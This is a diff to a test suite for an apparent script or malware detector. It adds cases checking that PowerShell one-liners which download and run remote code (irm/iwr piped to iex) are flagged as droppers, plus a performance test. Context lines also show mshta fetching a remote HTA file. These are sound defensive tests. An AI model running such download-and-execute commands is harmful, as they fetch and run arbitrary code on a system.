@@ -2,7 +2,7 @@
 
 import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
-import { useInspector } from '#inspect/testing/inspector.ts'
+import { ourInspector, useInspector } from '#inspect/testing/inspector.ts'
 import { writeZip } from '#inspect/testing/zip-writer.ts'
 import { decodeScripts } from './encoder.ts'
 
@@ -84,6 +84,10 @@ suite('a script that starts programs', () => {
       ]),
       'Script.Dropper',
     )
+  })
+  test('in PowerShell, with nothing but short commands', () => {
+    for (const text of ['$a=irm http://example.com/a;iex $a', 'IWR http://example.com/a|IEX', '$b;irm $u|&("iex")'])
+      has(writeZip([{ name: 'a.ps1', data: Buffer.from(text) }]), 'Script.Dropper')
   })
   test('in a batch file', () =>
     has(packed('a.bat', '@echo off\r\nmshta http://example.com/a.hta\r\n'), 'Script.Program'))
@@ -232,4 +236,15 @@ test('PowerShell that begins with a function is no JavaScript', () => {
   const rest = '$url = "http://192.0.2.1/a"\nGet-It $url\n'.repeat(3)
   has(Buffer.from(`function f {}\n${source}${rest}`), 'Script.Dropper')
   has(Buffer.from(source + rest), 'Script.Dropper')
+})
+
+test('short commands inside words are not looked into', async () => {
+  const inspector = await ourInspector()
+  const workOf = (words: string): number => {
+    inspector.inspect(Buffer.from(`${words}, ${'text, '.repeat(20)}`.repeat(100)))
+    return inspector.cost.work
+  }
+  assert.ok(workOf('diexa firm whirl_iex') < workOf('dieya fium whurl_iey') * 1.5)
+  assert.ok(workOf('iex') > workOf('iey') * 1.5)
+  inspector.dispose()
 })
